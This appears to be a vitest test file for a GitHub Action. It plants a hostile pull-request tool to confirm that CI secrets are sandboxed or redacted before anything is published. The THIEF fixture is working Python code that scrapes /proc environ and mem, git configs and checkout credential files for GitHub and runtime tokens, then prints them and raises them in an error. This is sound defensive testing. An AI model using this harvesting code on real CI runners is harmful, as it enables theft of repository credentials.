/**
 * Hostile corpus, publishing cases: dist/index.js under Node 24 with the fake GitHub. A head tool
 * hunts for the run's secrets — every visible /proc/<pid>/environ and /mem, the workspace
 * .git/config with an extraheader planted the way actions/checkout writes it — and raises them in
 * its error, prints them, and returns them. checkout's credential is planted both ways: v4's
 * extraheader in .git/config and v6's `git-credentials-<uuid>.config` in RUNNER_TEMP that
 * .git/config includes (the same token, as checkout and the Action both default to
 * `github.token`). Nothing planted may appear in any request body to
 * GitHub, the job summary, the report file, the outputs or the log; the verdict is not ACCEPT.
 * Run with the sandbox (where it can be had) and with `sandbox: off` (redaction alone).
 */
import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sandboxAvailability } from '../../src/measure/sandbox.js';
import { publishedTexts, startPullRequest } from '../e2e/action-helpers.js';
import { basicCredential } from '../helpers/checkout-credentials.js';
import type { PullRequestFixture } from '../e2e/action-helpers.js';

const alnum = (n: number): string =>
  randomBytes(n * 2)
    .toString('base64')
    .replace(/[^A-Za-z0-9]/g, '')
    .slice(0, n);
const TOKEN = `ghs_${alnum(36)}`;
const GITHUB_TOKEN = `ghs_${alnum(36)}`;
const RUNTIME = `rt-${alnum(40)}`;
const BASIC = basicCredential(TOKEN);

const BASE = 'def hunt(values):\n    return len(values)\n';
const THIEF = [
  'import os, re, glob',
  '',
  'def hunt(values):',
  '    found = []',
  "    for path in glob.glob('/proc/*/environ') + ['/proc/%d/environ' % os.getppid()]:",
  '        try:',
  "            found.append(open(path, 'rb').read().decode('latin1'))",
  '        except OSError:',
  '            pass',
  '    try:',
  "        mem = open('/proc/%d/mem' % os.getppid(), 'rb')",
  "        found.append('mem-open')",
  '    except OSError:',
  '        pass',
  "    for root in [os.environ.get('GITHUB_WORKSPACE', ''), os.getcwd(), '..', '../..']:",
  '        try:',
  "            found.append(open(os.path.join(root, '.git', 'config')).read())",
  '        except OSError:',
  '            pass',
  "    for path in glob.glob('/tmp/pv-r*/.git/config') + glob.glob('/tmp/pv-runner-*/*/.git/config') + glob.glob('/tmp/pv-runner-*/*/*/.git/config'):",
  '        try:',
  '            found.append(open(path).read())',
  '        except OSError:',
  '            pass',
  "    included = re.findall(r'path = (.+)', ' '.join(found))",
  "    for path in included + glob.glob('/tmp/pv-runner-*/runner-temp/git-credentials-*.config'):",
  '        try:',
  '            found.append(open(path.strip()).read())',
  '        except OSError:',
  '            pass',
  "    text = ' '.join(found)",
  "    secrets = re.findall(r'(?:INPUT_GITHUB-TOKEN|GITHUB_TOKEN|ACTIONS_RUNTIME_TOKEN)=([^\\x00]*)', text)",
  "    secrets += re.findall(r'basic ([A-Za-z0-9+/=]+)', text)",
  '    print(secrets)',
  '    if secrets:',
  "        raise ValueError('token is ' + ' '.join(secrets))",
  "    raise ValueError('found nothing: ' + str(len(text)))",
  '',
].join('\n');
const SIDE = '{"requirement": "Count", "test_input": {"values": [1, 2, 3]}}';

describe('hostile tools against publication (dist/index.js under Node 24)', () => {
  let pr: PullRequestFixture;
  beforeAll(async () => {
    pr = await startPullRequest({
      base: { 'tools/leak/hunt.py': BASE, 'tools/leak/hunt.perf.json': SIDE },
      message: 'hunt',
      head: { 'tools/leak/hunt.py': THIEF },
    });
  }, 180_000);
  afterAll(() => pr.close());

  const modes = sandboxAvailability().ok ? (['auto', 'off'] as const) : (['off'] as const);
  it.each(modes)(
    'sandbox: %s — no planted secret in any published byte, and no ACCEPT',
    async (sandbox) => {
      const github = pr.github;
      const before = github.requests.length;
      const run = await pr.run(
        {
          'github-token': TOKEN,
          'time-budget-seconds': '3',
          comment: 'always',
          sandbox,
        },
        {
          // What actions/checkout leaves behind with persist-credentials (the default), v4 and v6.
          checkoutCredentials: { v4: BASIC, v6: BASIC },
          env: { GITHUB_TOKEN, ACTIONS_RUNTIME_TOKEN: RUNTIME },
          payload: pr.payload('synchronize'),
        },
      );
      const bodies = JSON.stringify(github.requests.slice(before).map((r) => r.body as unknown));
      const report = readFileSync(run.outputs['report'] ?? '', 'utf8');
      const published = publishedTexts(
        run,
        github.requests.slice(before).map((r) => r.body as unknown),
      );
      for (const secret of [TOKEN, GITHUB_TOKEN, RUNTIME, BASIC])
        for (const text of published) expect(text).not.toContain(secret);
      expect(run.outputs['verdict']).not.toBe('ACCEPT');
      // The run did publish (a comment and a check), so the search above searched something.
      expect(bodies).toContain('perf-verdict');
      expect(github.violations()).toEqual([]);
      const parsed = JSON.parse(report) as {
        tools: { id: string; comparison?: { sandbox?: { kind: string } } }[];
      };
      const row = parsed.tools.find((t) => t.id.includes('hunt'));
      expect(row?.comparison?.sandbox?.kind).toBe(sandbox === 'off' ? 'none' : 'bwrap');
      if (sandbox === 'off') {
        // Unsandboxed, the theft succeeds and only redaction stands between it and the PR.
        expect(report).toMatch(/token is [^"]*\*\*\*/);
        expect(run.summary).toContain('unsandboxed: sandbox: off');
      } else {
        expect(report).toContain('found nothing');
      }
    },
    180_000,
  );
});
